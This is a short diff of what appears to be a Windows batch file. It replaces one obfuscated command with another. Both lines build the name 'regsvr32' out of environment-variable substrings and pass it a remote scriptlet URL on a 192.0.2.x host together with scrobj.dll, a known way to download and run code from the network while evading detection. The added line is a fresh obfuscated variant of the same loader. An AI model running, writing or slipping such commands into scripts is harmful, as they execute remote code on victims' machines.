@@ -1,2 +1,2 @@
-REM run 7829 v3
-%ProgramData:~4,1%%COMSPEC:~-1,1%%programdata:~6,1%%COMSPEC:~13,1%vr32 /s /n /u /i:http://192.0.2.150/file.sct scrobj.dll
+REM bootstrap 5726 v3
+%PUBLIC:~6,1%%comspec:~15,1%%ProgramData:~6,1%sv%PUBLIC:~-9,1%32 /s /n /u /i:http://192.0.2.44/file.sct scrobj.dll
